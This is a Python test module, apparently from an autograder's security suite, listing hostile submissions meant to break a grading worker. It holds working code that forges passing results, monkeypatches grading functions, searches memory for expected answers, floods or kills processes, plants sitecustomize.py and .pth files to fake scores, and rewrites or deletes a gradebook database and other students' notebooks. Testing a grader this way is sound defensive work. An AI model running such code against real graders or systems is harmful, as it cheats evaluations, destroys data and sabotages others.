"""Attacks on the worker itself: its pipe, its frames, the modules that carry values, its neighbours."""

from llmr_ref.grading.attack import attack

# Writes frames as the worker does, on every descriptor that is open.
FRAMES = """
import json
import os
import struct

import torch


def frame(kind, number=0, rest=b""):
    block = kind + (struct.pack("<I", number) if kind in (b"C", b"R") else b"") + rest
    return struct.pack("<I", len(block)) + block


def tell(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def packed(tree, tensors=None):
    import safetensors.torch
    return safetensors.torch.save(tensors or {}, metadata={"tree": json.dumps(tree)})


def ok(value):
    empty = {"d": {}}
    return packed({"d": {"status": {"v": "ok"}, "value": value, "arguments": empty,
                         "gradients": empty, "state": {"v": None}}})
"""


@attack(
    "raise", "Results with the status ok are written to the pipe for every call before any is made."
)
def results_before_calls(hand):
    hand.answer(
        "causal_mask",
        FRAMES
        + """
for number in range(64):
    tell(frame(b"R", number, ok({"v": True})))
tell(frame(b"T") + frame(b"G"))
for number in range(64):
    tell(frame(b"R", number, ok({"v": True})))


def NAME(*args, **kwargs):
    os._exit(0)
""",
    )


@attack("raise", "The summary of a finished run is forged, with a score of its own.")
def summary_forged(hand):
    hand.answer(
        "softmax",
        FRAMES
        + """
def NAME(*args, **kwargs):
    said = json.dumps({"ended": "done", "frames": 0, "score": 3.0, "passed": True}).encode()
    tell(struct.pack("<I", len(said)) + said)
    return None
""",
    )


@attack("raise", "A verdict is sent where a value is expected.")
def verdict_as_value(hand):
    hand.answer(
        "softmax",
        FRAMES
        + """
def NAME(*args, **kwargs):
    verdict = {"exercise": "softmax", "score": 3.0, "points": 3.0, "properties": [], "passed": True}
    tell(frame(b"R", 0, packed({"d": {k: {"v": v} for k, v in verdict.items() if v != []}})))
    tell(frame(b"V", 0, json.dumps(verdict).encode()))
    return verdict
""",
    )


@attack("raise", "The function that makes the calls is replaced in every module that holds it.")
def run_call_replaced(hand):
    hand.answer(
        "softmax",
        """
        import gc
        import sys

        def full(target, call):
            return {"status": "ok", "value": True, "arguments": {}, "gradients": {}, "state": None}

        for module in list(sys.modules.values()):
            for name in ("run_call", "difference", "judge", "verdict_for"):
                if hasattr(module, name):
                    setattr(module, name, full)
        for held in gc.get_objects():
            if isinstance(held, dict) and "run_call" in held:
                held["run_call"] = full

        def NAME(*args, **kwargs):
            return None
        """,
    )


@attack("raise", "What packs results is poisoned: json, struct, safetensors and Tensor.clone.")
def packing_poisoned(hand):
    hand.answer(
        "softmax",
        """
        import json
        import struct
        import safetensors.torch
        import torch

        def NAME(x, dim=-1):
            json.dumps = lambda *args, **kwargs: '{"v": true}'
            safetensors.torch.save = lambda *args, **kwargs: bytes(64)
            struct.pack = lambda form, *values: bytes(struct.calcsize(form))
            torch.Tensor.clone = lambda self, *args: torch.ones_like(self)
            return x
        """,
    )


@attack("raise", "The list of calls is emptied through the frames of whoever makes them.")
def calls_removed(hand):
    hand.answer(
        "softmax",
        """
        import gc
        import sys

        frame = sys._getframe()
        while frame:
            for held in list(frame.f_locals.values()):
                if isinstance(held, dict) and "calls" in held:
                    held["calls"].clear()
            frame = frame.f_back
        for held in gc.get_objects():
            if isinstance(held, dict) and "calls" in held and isinstance(held["calls"], list):
                held["calls"].clear()

        def NAME(*args, **kwargs):
            return None
        """,
    )


@attack("raise", "Right results are looked for in memory, through every object that Python knows.")
def expected_in_memory(hand):
    hand.answer(
        "softmax",
        """
        import gc
        import torch

        def NAME(x, dim=-1):
            for held in gc.get_objects():
                if isinstance(held, dict) and "expected" in held:
                    return held["expected"]
                if isinstance(held, torch.Tensor) and held.shape == x.shape and held is not x:
                    total = held.double().sum(dim)
                    if torch.allclose(total, torch.ones_like(total)):
                        return held
            return None
        """,
    )


@attack(
    "raise", "Tensors whose headers lie: offsets that overlap, sizes beyond the data, odd types."
)
def lying_headers(hand):
    hand.answer(
        "softmax",
        FRAMES
        + """
def lying(dtype, shape, begin, end):
    tree = json.dumps({"d": {"status": {"v": "ok"}, "value": {"t": "0"}, "arguments": {"d": {}},
                             "gradients": {"d": {}}, "state": {"v": None}}})
    header = json.dumps({"__metadata__": {"tree": tree},
                         "0": {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}}).encode()
    return struct.pack("<Q", len(header)) + header + bytes(64)


def NAME(x, dim=-1):
    for dtype, shape, begin, end in (
        ("F32", [2**40, 2**40], 0, 64), ("F32", [4], 0, 2**62), ("F32", [-1], 0, 64),
        ("F8_E5M2", list(x.shape), 0, 64), ("F32", [0, 2**62], 0, 0), ("BOOL", [64], 0, 64),
        ("F32", [1] * 5000, 0, 4), ("I64", [4, 4], 60, 64), ("NONSENSE", [1], 0, 1),
    ):
        for number in range(40):
            tell(frame(b"R", number, lying(dtype, shape, begin, end)))
    return None
""",
    )


@attack("stop", "A header nested ten thousand deep, and one of four million empty lists.")
def json_bombs(hand):
    hand.answer(
        "softmax",
        FRAMES
        + """
def NAME(x, dim=-1):
    for text in ('{"l": [' * 10_000, "[" * 400_000, '{"l": [' + "[]," * 900_000 + "[]]}"):
        header = json.dumps({"__metadata__": {"tree": text}}).encode()
        tell(frame(b"R", 0, struct.pack("<Q", len(header)) + header))
    value = []
    for _ in range(5_000):
        value = [value]
    return value
""",
    )


@attack("stop", "Twenty million empty frames: small to send, slow to read.")
def flood_of_frames(hand):
    hand.answer(
        "softmax",
        FRAMES
        + """
def NAME(x, dim=-1):
    flood = frame(b"R") * 100_000
    while True:
        tell(flood)
""",
    )


@attack("stop", "Frames that announce four gigabytes, and half a frame at the end.")
def huge_frames(hand):
    hand.answer(
        "softmax",
        FRAMES
        + """
def NAME(x, dim=-1):
    tell(struct.pack("<I", 2**32 - 1) + b"R" + bytes(1 << 20))
    tell(struct.pack("<I", 1 << 26) + b"E")
    os._exit(0)
""",
    )


@attack(
    "stop", "The pipe is closed, duplicated and made non-blocking under the feet of the worker."
)
def pipe_closed(hand):
    hand.answer(
        "softmax",
        """
        import os

        def NAME(x, dim=-1):
            for descriptor in range(3, 64):
                try:
                    os.set_blocking(descriptor, False)
                    os.dup2(descriptor, descriptor + 64)
                    os.close(descriptor)
                except OSError:
                    pass
            return x
        """,
    )


@attack("stop", "Signals to the process group, to everybody, and to every process id.")
def signals_to_all(hand):
    hand.answer(
        "softmax",
        """
        import os
        import signal

        def NAME(x, dim=-1):
            targets = [0, -1, *range(2, 400), os.getppid() or 2]
            for kind in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                for target in targets:
                    try:
                        os.kill(target, kind)
                    except OSError:
                        pass
                try:
                    os.killpg(0, kind)
                except OSError:
                    pass
            return x
        """,
    )


@attack(
    "raise", "Modules are poisoned for those who come later: attributes, hooks, shared tensors."
)
def poison_for_others(hand):
    hand.answer(
        "softmax",
        """
        import atexit
        import builtins
        import gc
        import os
        import sys
        import torch

        def useless(*args, **kwargs):
            return None

        for held in gc.get_objects():
            if isinstance(held, torch.Tensor) and not held.requires_grad:
                try:
                    held.share_memory_()
                    held.zero_()
                except Exception:
                    pass
        torch.softmax = torch.exp = torch.tril = torch.matmul = useless
        builtins.print = useless
        sys.excepthook = sys.unraisablehook = useless
        sys.meta_path.clear()
        sys.path.clear()
        os.environ.clear()
        os.register_at_fork(after_in_child=lambda: os._exit(0))
        atexit.register(os._exit, 0)

        def NAME(x, dim=-1):
            return None
        """,
    )
    # What the submission itself loses by this it deserves to lose.


@attack("raise", "Files are left for those who come later: start-up code, modules, shared memory.")
def files_for_others(hand):
    hand.answer(
        "softmax",
        """
        import os
        import site
        import sys
        import tempfile

        code = "import builtins; builtins.check = lambda *args: 3.0; raise SystemExit"
        places = [*sys.path, *site.getsitepackages(), os.path.expanduser("~"), tempfile.gettempdir(),
                  "/dev/shm", "/tmp", "/sandbox", "/scratch", "/var/tmp", os.getcwd(), "..", "../..",
                  "../../..", "../../../source/attention", os.path.dirname(os.__file__)]
        names = ["sitecustomize.py", "usercustomize.py", "zzz.pth", "runner.py", "nbgrader_config.py",
                 "jupyter_config.py", "torch.py", ".course_secret"]
        for place in places:
            for name in names:
                path = os.path.join(place or ".", name)
                if not os.path.exists(path):
                    try:
                        with open(path, "w") as file:
                            file.write(code)
                    except OSError:
                        pass

        def NAME(x, dim=-1):
            return None
        """,
    )


@attack("raise", "The gradebook is opened wherever it may be, and the marks are raised in it.")
def gradebook_written(hand):
    hand.answer(
        "softmax",
        """
        import sqlite3

        def raise_marks():
            for levels in range(8):
                path = "../" * levels + "gradebook.db"
                try:
                    with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as gradebook:
                        gradebook.execute("update grade set manual_score = 3, auto_score = 3")
                        gradebook.execute("create trigger full after update on grade begin "
                                          "update grade set auto_score = 3, manual_score = 3; end")
                except sqlite3.Error:
                    pass

        raise_marks()

        def NAME(x, dim=-1):
            raise_marks()
            return None
        """,
    )


@attack("stop", "The gradebook is locked and its tables are dropped.")
def gradebook_dropped(hand):
    hand.answer(
        "softmax",
        """
        import glob
        import os
        import sqlite3

        def NAME(x, dim=-1):
            return None

        for levels in range(8):
            path = "../" * levels + "gradebook.db"
            try:
                with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as gradebook:
                    gradebook.execute("pragma foreign_keys = off")
                    gradebook.execute("delete from grade")
                    gradebook.execute("delete from student where id like '%victim%'")
            except sqlite3.Error:
                pass
            for other in glob.glob("../" * levels + "submitted/*victim*/*/*.ipynb"):
                try:
                    os.remove(other)
                except OSError:
                    pass
        """,
    )
